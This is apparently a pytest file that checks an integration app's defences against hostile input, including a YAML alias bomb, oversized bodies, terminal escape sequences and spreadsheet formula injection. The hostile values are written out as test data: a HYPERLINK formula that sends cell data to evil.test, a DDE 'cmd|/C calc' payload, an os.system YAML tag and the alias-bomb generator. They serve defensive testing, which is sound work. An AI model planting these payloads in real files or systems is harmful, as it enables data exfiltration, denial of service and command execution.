"""Hostile documents and bodies (issue 9, section 4): a YAML alias bomb on every path that parses
YAML, request bodies bounded before sign-in, bounded integer ids, the security headers on every
error, messages from targets bounded before translation, control characters kept out of the
operator's terminal, and formula cells neutralised in report files.

Web tests go through the app (TestClient, or served by uvicorn on 127.0.0.1 for a chunked body),
on SQLite and PostgreSQL where a database is involved."""

from __future__ import annotations

import secrets
import time
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from factories import configure_xledger, record_run, seed_organisation
from fastapi.testclient import TestClient
from typer.testing import CliRunner
from webworld import ADMIN_A, BASE_URL, ORG_A

from integration_hub.cli import app as cli_app
from integration_hub.mappings.spec import MappingError, load_mapping_file, parse_mapping
from integration_hub.untrusted import csv_text, load_yaml, markdown_text, rich_text, safe_text
from integration_hub.web import i18n

MiB = 1024 * 1024
SECURITY_HEADERS = {
    "content-security-policy": "default-src 'self'",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
    "cache-control": "no-store",
}
HOSTILE_NAME = "Ola\x1b]52;c;aGFja2Vk\x07\x1b[2J\x9b31m[/][link=https://evil.test]Nordmann"
"""A volunteer name that writes the clipboard (OSC 52), clears the screen, starts a one-byte CSI
and carries rich markup that would end the whole print."""
TERMINAL_BYTES = ("\x1b", "\x07", "\x9b")
FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")'


def has_security_headers(response: httpx.Response) -> bool:
    return all(response.headers.get(k, "").startswith(v) for k, v in SECURITY_HEADERS.items())


def alias_bomb() -> str:
    """The billion laughs as a mapping document, about 29 KB: a list of 4,100 strings, then nine
    levels of ten aliases each of the level before. Walked in full it is 4.1 * 10^12 strings;
    an unguarded parse_mapping turns it into text (``str`` of each value map) and never ends."""
    lines = [
        "target: xledger",
        "fields:",
        "  expense_account: {source: category, value_map: laughs}",
        "lol0: &lol0 [" + ", ".join(["'lol'"] * 4100) + "]",
    ]
    for level in range(1, 10):
        lines.append(f"lol{level}: &lol{level} [" + ", ".join([f"*lol{level - 1}"] * 10) + "]")
    lines += ["value_maps:", "  laughs: {travel: *lol9}"]
    return "\n".join(lines) + "\n"


def measured(action: Callable[[], Any]) -> tuple[Any, float, int]:
    """(what ``action`` returned or raised, seconds, peak bytes allocated while it ran)."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        try:
            outcome: Any = action()
        except Exception as exc:
            outcome = exc
        return outcome, time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


# -- 1. YAML: no anchors or aliases, bounded size and depth ----------------------------------
def test_the_alias_bomb_is_refused_at_once_with_memory_flat() -> None:
    bomb = alias_bomb()
    assert 28_000 < len(bomb) < 30_000
    outcome, seconds, peak = measured(lambda: parse_mapping(bomb))
    assert isinstance(outcome, MappingError)
    assert outcome.problems[0].startswith(
        "YAML anchors and aliases (&name, *name) are not allowed (line 4)"
    )
    assert peak < 2 * MiB, f"{peak} bytes allocated"
    assert seconds < 1, "refused at the first anchor: microseconds, generously bounded"


def test_yaml_from_outside_refuses_merge_keys_deep_nesting_and_python_tags() -> None:
    from integration_hub.untrusted import DocumentRefused

    assert load_yaml("a: [1, {b: c}]\nd: 'x'") == {"a": [1, {"b": "c"}], "d": "x"}
    for document, why in [
        ("base: &b {x: 1}\nother:\n  <<: *b\n", "anchors and aliases"),
        ("a: " + "[" * 100 + "]" * 100, "nested more than 64 levels"),
        ("a: !!python/object/apply:os.system [true]", "not valid YAML"),
        ("a: " + "x" * 2 * MiB, "larger than 1024 KiB"),
    ]:
        with pytest.raises(DocumentRefused, match=why):
            load_yaml(document)


def test_the_mapping_page_refuses_an_uploaded_alias_bomb(web: Any) -> None:
    from test_web_mapping import URL, configure, stored_versions

    row = configure(web)
    client = web.client(ADMIN_A)
    csrf = web.csrf(client)

    def upload() -> httpx.Response:
        return client.post(
            URL,
            data={"csrf_token": csrf, "action": "upload"},
            files={"mapping_file": ("laughs.yaml", alias_bomb().encode(), "application/yaml")},
        )

    response, _seconds, peak = measured(upload)
    assert response.status_code == 422
    assert "YAML-ankre og -aliaser (&amp;navn, *navn) er ikke tillatt (linje 4)" in response.text
    assert peak < 64 * MiB, f"{peak} bytes allocated while the page answered"
    assert stored_versions(row) == []


@pytest.fixture
def cli_org(hub_env: str, vault_key: Path, xledger_sandbox: Any) -> dict[str, Any]:
    """``bf`` on the Xledger sandbox, set up through the services (mapping toll -> 7145, which
    the sandbox lacks, so a toll claim fails with its volunteer named in the summary)."""
    state, server = xledger_sandbox
    token = secrets.token_hex(16)
    company = state.add_company(token, employees=[{"code": "1001"}], closed_before=date(2024, 1, 1))
    org_id = seed_organisation("bf", [{"category": "toll", "amount_ore": 4_400}])
    row = configure_xledger("bf", server.url, token, toll_account="7145")
    return {"row": row, "org_id": org_id, "company": company}


def test_cli_mapping_and_setup_files_refuse_the_alias_bomb(
    cli_org: dict[str, Any], tmp_path: Path
) -> None:
    bomb = tmp_path / "laughs.yaml"
    bomb.write_text(alias_bomb(), encoding="utf-8")
    runner = CliRunner()

    validate = runner.invoke(
        cli_app, ["mappings", "validate", "bf", "xledger", "--file", str(bomb)]
    )
    assert validate.exit_code == 2, validate.output
    assert "YAML anchors and aliases (&name, *name) are not allowed" in validate.output

    setup = runner.invoke(cli_app, ["setup", "bf", "xledger", "--from-file", str(bomb)])
    assert setup.exit_code == 2, setup.output
    assert "the setup file cannot be used: YAML anchors and aliases" in setup.output

    # What a setup file's ``mapping:`` and the interactive wizard read it with.
    with pytest.raises(MappingError, match="anchors and aliases"):
        load_mapping_file(bomb)
    huge = tmp_path / "huge.yaml"
    huge.write_bytes(b"a: " + b"x" * (2 * MiB))
    too_big = runner.invoke(cli_app, ["setup", "bf", "xledger", "--from-file", str(huge)])
    assert too_big.exit_code == 2 and "larger than 1024 KiB" in too_big.output
    assert "Traceback" not in validate.output + setup.output + too_big.output


# -- 2. bodies bounded before sign-in, ids bounded, the headers on every error ------------------
CHECK_URL = f"/api/v1/organisations/{ORG_A}/integrations/xledger/mapping/check"


def test_a_large_body_is_refused_before_sign_in_with_the_security_headers(web: Any) -> None:
    anonymous = web.client()
    body = b'{"target": "' + b"x" * (2 * MiB) + b'"}'
    api = anonymous.post(CHECK_URL, content=body, headers={"content-type": "application/json"})
    assert api.status_code == 413  # not 401 after reading and parsing 2 MiB
    assert api.json() == {"error": "forespørselen er større enn 1024 KiB"}
    assert has_security_headers(api)

    page = anonymous.post(
        "/sign-in",
        content=b"email=a%40b.test&password=" + b"x" * (2 * MiB),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert page.status_code == 413
    assert "forespørselen er større enn 1024 KiB" in page.text
    assert has_security_headers(page)


class CountingApp:
    """Counts the body bytes the web app pulled from the server."""

    def __init__(self, app: Any) -> None:
        self.app = app
        self.read = 0

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        async def counted() -> Any:
            message = await receive()
            self.read += len(message.get("body", b""))
            return message

        await self.app(scope, counted, send)


def test_a_chunked_body_stops_being_read_past_the_limit(web: Any) -> None:
    from integration_hub.sandbox.server import start_server

    counting = CountingApp(web.app)

    def chunks() -> Iterator[bytes]:
        yield b'{"target": "'
        for _ in range(128):  # 8 MiB, without a Content-Length
            yield b"x" * (64 * 1024)
        yield b'"}'

    with start_server(counting) as server:
        response = httpx.post(
            f"{server.url}{CHECK_URL}",
            content=chunks(),
            headers={"content-type": "application/json"},
            timeout=30,
        )
    assert response.status_code == 413
    assert response.json() == {"error": "forespørselen er større enn 1024 KiB"}
    assert has_security_headers(response)
    assert counting.read < 2 * MiB, f"the app read {counting.read} bytes"


def test_a_mapping_upload_still_fits(web: Any) -> None:
    from test_web_mapping import URL, configure, stored_versions, template_document

    row = configure(web)
    client = web.client(ADMIN_A)
    padding = "#" + "x" * 1000 + "\n"
    document = "".join([padding] * 200) + yaml.safe_dump(template_document())
    assert 200_000 < len(document) < 256 * 1024
    response = client.post(
        URL,
        data={"csrf_token": web.csrf(client), "action": "upload"},
        files={"mapping_file": ("m.yaml", document.encode(), "application/yaml")},
    )
    assert response.status_code == 303, response.text[:500]  # saved, on to the next page
    assert len(stored_versions(row)) == 1


def test_huge_ids_are_refused_by_validation_not_the_database(web: Any) -> None:
    from test_web_mapping import configure

    configure(web)
    client = web.client(ADMIN_A)
    huge = "1" * 25
    health = f"/orgs/{ORG_A}/integrations/xledger/health"
    page = client.get(f"{health}?retried={huge}")
    assert page.status_code == 422 and has_security_headers(page)
    retry = client.post(f"{health}/retry", data={"csrf_token": web.csrf(client), "run_id": huge})
    assert retry.status_code == 422 and has_security_headers(retry)
    assert client.get(f"{health}?retried={2**31}").status_code == 422
    api = client.post(f"/api/v1/runs/{huge}/retry", headers={"X-CSRF-Token": web.csrf(client)})
    assert api.status_code == 422 and has_security_headers(api)
    assert client.get(f"{health}?retried=7").status_code == 200  # a run that is not there


def test_every_error_carries_the_security_headers(
    web: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from test_web_mapping import configure

    from integration_hub.web.api import me
    from integration_hub.web.pages import dashboard

    configure(web)
    client = web.client(ADMIN_A)
    client.headers["X-CSRF-Token"] = web.csrf(client)
    answers = {
        "page 404": client.get("/no/such/page"),
        "API 404": client.get("/api/v1/no-such-thing"),
        "API 405": client.get("/api/v1/runs/1/retry"),
        "page 405": client.put("/sign-in"),
        "API 422": client.post(CHECK_URL, content=b"[1]", headers={"content-type": "x"}),
        "page 422": client.get(f"/orgs/{ORG_A}/integrations/xledger/health?retried=x"),
        "API 413": client.post(CHECK_URL, content=b"x" * (2 * MiB)),
    }

    leaked = "the far end said: token=abc123"

    def broken(*_args: Any, **_kwargs: Any) -> Any:
        raise RuntimeError(leaked)

    monkeypatch.setattr(dashboard.overview, "dashboard", broken)
    monkeypatch.setattr(me, "list_organisations", broken)
    failing = TestClient(web.app, base_url=BASE_URL, raise_server_exceptions=False)
    failing.cookies = client.cookies
    answers["page 500"] = failing.get(f"/orgs/{ORG_A}")
    answers["API 500"] = failing.get("/api/v1/me")

    for name, response in answers.items():
        expected = int(name.split()[1])
        assert response.status_code == expected, (name, response.status_code)
        assert has_security_headers(response), (name, dict(response.headers))
    for name in ("page 500", "API 500"):
        text = answers[name].text
        assert "noe gikk galt i huben" in text
        assert leaked not in text and "Traceback" not in text and "RuntimeError" not in text


# -- 3. messages from targets are bounded before translation ---------------------------------
def test_a_64_kb_message_is_cut_before_it_is_translated() -> None:
    shapes = [
        "x" * 65_536,
        "Version " + ", saved by  on " * 4_700,  # three placeholders: the regex's worst case
        "a ' b' has no c in the field mapping (value map '" * 1_300,
    ]
    for message in shapes:
        started = time.perf_counter()
        translated = i18n.translate(message, "nb")
        assert time.perf_counter() - started < 1
        assert len(translated) == i18n.MAX_MESSAGE_CHARS and translated.endswith("…")
    assert i18n.translate("Version 3, saved by ola on 2026-01-01.", "nb") == (
        "Versjon 3, lagret av ola 2026-01-01."
    )


def test_the_health_page_shows_a_long_target_error_cut(web: Any) -> None:
    from test_web_mapping import configure

    row = configure(web)
    error = "E" * 2000  # as long as the column holds
    record_run(row.id, web.organisation_ids[ORG_A], status="failed", error=error)
    page = web.client(ADMIN_A).get(f"/orgs/{ORG_A}/integrations/xledger/health")
    assert page.status_code == 200
    assert "E" * 999 + "…" in page.text and "E" * 1000 not in page.text


# -- 4. no control characters in the operator's terminal -------------------------------------
def test_safe_text_replaces_every_control_character() -> None:
    shown = safe_text(HOSTILE_NAME + "\u202e\tline\nbreak")
    assert not any(ch in shown for ch in (*TERMINAL_BYTES, "\u202e"))
    assert shown.startswith("Ola\ufffd]52;c;aGFja2Vk\ufffd\ufffd[2J\ufffd31m")
    assert shown.endswith("\ufffd line break")
    assert rich_text("[/]x") == "\\[/]x"
    assert safe_text(None) == "" and safe_text(7) == "7"


def _rename_volunteers(name: str) -> None:
    from sqlmodel import select

    from integration_hub.db import app_session
    from integration_hub.models import Volunteer

    with app_session() as session:
        for volunteer in session.exec(select(Volunteer)).all():
            volunteer.name = name
            session.add(volunteer)


def test_health_prints_hostile_app_data_inert(cli_org: dict[str, Any]) -> None:
    record_run(
        cli_org["row"].id,
        cli_org["org_id"],
        error="target said \x1b[2J[bold]",
        failures=[
            {
                "record_id": 301,
                "reason": f"volunteer {HOSTILE_NAME} has no employee number",
                "category": "toll\x1b[5m",
                "volunteer_name": HOSTILE_NAME,
                "amount_ore": 4_400,
            }
        ],
    )
    result = CliRunner().invoke(cli_app, ["health", "bf", "xledger"])
    assert result.exit_code == 1, result.output
    assert not any(ch in result.output for ch in TERMINAL_BYTES), repr(result.output)
    assert "Nordmann" in result.output and "[/][link=https://evil.test]" in result.output
    assert "target said \ufffd[2J[bold]" in result.output


def test_sync_prints_a_hostile_volunteer_name_inert(
    cli_org: dict[str, Any], quick_flow_runs: None
) -> None:
    _rename_volunteers(HOSTILE_NAME)
    result = CliRunner().invoke(cli_app, ["sync", "bf", "xledger"])
    assert result.exit_code == 1, result.output
    assert "failed  claim" in result.output and "Nordmann" in result.output
    assert not any(ch in result.output for ch in TERMINAL_BYTES), repr(result.output)
    assert "Ola\ufffd]52;c;aGFja2Vk\ufffd" in result.output


# -- 5. report files: formulas neutralised, markdown escaped -----------------------------------
def test_report_files_neutralise_formulas_and_escape_markdown(tmp_path: Path) -> None:
    from test_bufdir import activity

    from integration_hub.tasks import activities as steps

    rows = [
        activity(1, chapter_code="-2+3", chapter_name=FORMULA),
        activity(2, chapter_code="@SUM", chapter_name="\tTab", municipality_number="4601"),
        activity(3, municipality_number=FORMULA),  # fails, and the reason quotes it
        activity(4, activity_type="=cmd|'/C calc'!A0"),  # skipped, and the reason names it
    ]
    report = steps.build_report(
        steps.activities_frame(rows), steps.parse_period("2025"), {"type:=cmd|'/C calc'!A0"}
    )
    files = steps.write_report(
        report,
        var_dir=tmp_path,
        organisation_slug="hlf",
        organisation_name="[HLF](https://evil.test) <b>|*",
        org_number="999888777",
        run_id=1,
    )
    csv_lines = files.csv_bytes.decode("utf-8").splitlines()
    assert csv_lines[1:] == [
        '\'-2+3;"\'=HYPERLINK(""https://evil.test/?leak=""&A1,""Click"")";0301;1;10;10;4.00;3',
        "'@SUM;'\tTab;4601;1;10;10;4.00;3",
    ]
    summary = files.summary_text
    assert summary.startswith(
        "# Bufdir activity report: \\[HLF\\]\\(https://evil.test\\) \\<b\\>\\|\\* (999888777)"
    )
    escaped = '=HYPERLINK\\("https://evil.test/?leak="\\&A1,"Click"\\)'
    assert f"| -2+3 {escaped} | 0301 |" in summary  # markdown needs no leading quote
    assert f"- activity 3: municipality number '{escaped}' is not" in summary
    assert "- excluded category 'type:=cmd\\|'/C calc'\\!A0': 1" in summary
    rows = [line for line in summary.splitlines() if line.startswith("| ")]
    assert all(unescaped_pipes(line) == 8 for line in rows), rows  # seven columns each


def unescaped_pipes(line: str) -> int:
    return line.replace("\\|", "").count("|")


def test_csv_text_neutralises_every_formula_start() -> None:
    assert [csv_text(v) for v in ("=1+1", "+47", "-5", "@x", "\rx", "Oslo", None)] == [
        "'=1+1",
        "'+47",
        "'-5",
        "'@x",
        "'\rx",
        "Oslo",
        "",
    ]
    assert markdown_text("a_b*c`d\nnext") == "a\\_b\\*c\\`d next"
